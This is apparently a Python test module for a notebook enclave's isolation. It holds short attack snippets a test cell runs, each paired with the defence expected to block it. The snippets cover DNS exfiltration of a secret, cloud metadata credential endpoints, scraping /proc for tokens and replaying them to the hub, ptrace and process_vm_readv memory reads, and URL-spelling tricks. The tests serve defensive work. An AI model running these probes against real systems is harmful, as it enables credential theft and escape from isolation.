"""What a cell tries. Each piece of code leaves something in `got` where it succeeded; what it raises is a failure."""

from __future__ import annotations

from tests.journeys.attacks import machine
from tests.journeys.attacks.machine import NOBODY_SEES
from tests.journeys.attacks.model import Attack, alarm

NO_NETWORK = "a network of its own, internal, without an address of this machine"
GATE = "the gate's list of four routes"
ROUTE = alarm("gate", "route")

PRELUDE = """
import ctypes, glob, json, os, re, socket, subprocess, sys, time, urllib.request
from concurrent.futures import ThreadPoolExecutor
libc = ctypes.CDLL(None, use_errno=True)
SERVER = os.getppid()
HUB = socket.gethostbyname("hub")
def reached(place):
    try:
        socket.create_connection(place, 1).close()
        return True
    except OSError:
        return False
def reach(*places):
    with ThreadPoolExecutor(32) as pool:
        return [place for place, found in zip(places, pool.map(reached, places)) if found]
def call(number, *arguments):
    return libc.syscall(*map(ctypes.c_long, (number, *arguments))) != -1
def ask(path, method="GET", base="http://hub:8082", **headers):
    request = urllib.request.Request(base + path, headers=headers, method=method)
    return urllib.request.urlopen(request, timeout=5).read()
def opened(*paths, mode="rb"):
    found = []
    for path in paths:
        try:
            with open(path, mode) as file:
                found.append((path, file.read(64) if mode == "rb" else file.write("x")))
        except OSError:
            pass
    return found
"""
NETWORK = (
    Attack(
        "internet",
        "a connection to an address on the internet",
        'got = reach(("1.1.1.1", 443), ("9.9.9.9", 53))',
        NO_NETWORK,
        "no packet leaves, so nothing sees it",
    ),
    Attack(
        "ipv6",
        "the same by IPv6",
        'got = reach(("2606:4700:4700::1111", 443))',
        "no IPv6 on the network",
        "no packet leaves, so nothing sees it",
    ),
    Attack(
        "dns-name",
        "a secret spelled as a name that a resolver is asked for",
        'got = socket.gethostbyname("secret-0xdeadbeef.example.com")',
        "a resolver that forwards nothing",
        "libraries ask for names by themselves",
    ),
    Attack(
        "dns-server",
        "the same, asked of a name server directly",
        "line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); line.settimeout(1)\n"
        'asked = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\7example\\3com\\0\\0\\1\\0\\1"\n'
        'line.sendto(asked, ("8.8.8.8", 53))\n'
        "got = line.recv(512)",
        NO_NETWORK,
        "no packet leaves, so nothing sees it",
    ),
    Attack(
        "machine-ports",
        "ports of the machine that the enclave runs on",
        "got = reach(*((host, port) for host in MACHINE for port in (22, 111, 2375, 8000, PORT)))",
        NO_NETWORK,
        "no packet arrives, so nothing sees it",
    ),
    Attack(
        "metadata",
        "the addresses at which clouds hand out credentials",
        'got = reach(("169.254.169.254", 80), ("100.100.100.200", 80), ("169.254.170.2", 80))',
        NO_NETWORK,
        "no packet leaves, so nothing sees it",
    ),
    Attack(
        "another-workspace",
        "the server of another person's open workspace, by its address",
        "got = reach((OTHER, 8888))",
        "one network for each workspace",
        "no packet arrives, so nothing sees it",
    ),
    Attack(
        "services",
        "hub, proxy, directory, release pages and launcher, by name and by address",
        "got = reach(*((host, port)\n"
        '    for host in (*SERVICES, HUB, "ldap", "egress-web", "desk", "front", "edge", "net")\n'
        "    for port in (389, 8000, 8001, 8010, 8081, 8443)))",
        "one port of one address answers: the gate's",
        "no connection is made, so nothing sees it",
    ),
    Attack(
        "raw-packets",
        "packets made by hand",
        "got = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
        "no capabilities; a list of system calls",
        NOBODY_SEES,
    ),
)
HUB = (
    Attack(
        "login-page",
        "the hub's login page, to log in from inside and hold a session that reaches other projects",
        'got = ask("/hub/login")',
        GATE,
        ROUTE,
    ),
    Attack("hub-people", "the hub's list of people", 'got = ask("/hub/api/users")', GATE, ROUTE),
    Attack("hub-tokens", "a new token", 'got = ask("/hub/api/users/bob/tokens", "POST")', GATE, ROUTE),
    Attack(
        "hub-spelling",
        "the same in spellings that two programs may read differently",
        'got = [ask(path) for path in ("/hub/api/user/../../login", "/hub/%61pi/users", "//hub/api/users")]',
        GATE,
        ROUTE,
    ),
    Attack(
        "proxy-api",
        "the proxy's routes, through the hub's address",
        'got = ask("/api/routes")',
        GATE,
        ROUTE,
    ),
    Attack(
        "hub-without-token",
        "the hub's API without a token",
        'got = ask("/hub/api/user")',
        "the hub",
        alarm("hub", "token"),
    ),
    Attack(
        "tokens-in-reach",
        "whatever looks like a token in environments, command lines and files, shown to the hub",
        'files = [f"{at}/{name}" for top in ("/tmp", "/home/researcher", "/run", "/dev/shm")\n'
        "    for at, _, names in os.walk(top) for name in names]\n"
        'text = b" ".join(opened_whole(*glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline"), *files))\n'
        'got = [token for token in set(re.findall(rb"\\b[0-9a-f]{32}\\b", text)) if accepted(token.decode())]',
        "the server's token is in no environment, command line or file that kernels read",
        "a token that is none is what a page asks with that was left open",
    ),
)
TOKENS = """
def opened_whole(*paths):
    for path in paths:
        try:
            if not os.path.islink(path): yield open(path, "rb").read(1 << 20)
        except OSError:
            pass
def accepted(token):
    try:
        return ask("/hub/api/user", Authorization="token " + token)
    except OSError:
        return False
"""
SERVER = (
    Attack(
        "server-memory",
        "environment, memory and open files of the server, in which its token is",
        'got = opened(*(f"/proc/{pid}/{name}" for pid in (1, SERVER) for name in ("environ", "mem", "maps", "auxv")))\n'
        'got += [pid for pid in (1, SERVER) if os.access(f"/proc/{pid}/fd", os.R_OK)]',
        "a server and an init whose memory is not their user's to read",
        NOBODY_SEES,
    ),
    Attack(
        "ptrace",
        "the server stopped and searched by a debugger",
        "got = call(101, 16, SERVER, 0, 0)",
        "a list of system calls",
        NOBODY_SEES,
    ),
    Attack(
        "read-memory",
        "the server's memory, read from outside it",
        "there = (ctypes.c_char * 64)()\n"
        "piece = (ctypes.c_size_t * 2)(ctypes.addressof(there), 64)\n"
        "got = libc.process_vm_readv(SERVER, piece, 1, piece, 1, 0) > 0",
        "a list of system calls",
        NOBODY_SEES,
    ),
    Attack(
        "server-api",
        "the server's own API, from beside it",
        'got = ask("/user/bob/reste-a-charge/api/contents", base="http://127.0.0.1:8888")',
        "the server asks for a session of the hub",
        "the server is a second wall, and what it would say could be forged by whoever climbs it",
    ),
    Attack(
        "own-configuration",
        "a configuration for the next server, left in the home",
        'os.makedirs("/home/researcher/.jupyter", exist_ok=True)\n'
        'read = ("/etc/jupyter", "/opt/bulle", "/usr/local", "/usr/lib/python3")\n'
        "got = [path for path in read if os.access(path, os.W_OK)]",
        "the server reads configuration of the image only",
        "a folder of one's own is one's own",
    ),
)
ALL = (*NETWORK, *HUB, *SERVER, *machine.MACHINE, *machine.BOMBS)

RUN = """
results = {}
for name, code in json.loads(CODES).items():
    space = dict(globals(), got=None)
    try:
        exec(code, space)
    except Exception:
        pass
    results[name] = repr(space["got"])[:300] if space["got"] else ""
print("RESULTS", json.dumps(results))
"""
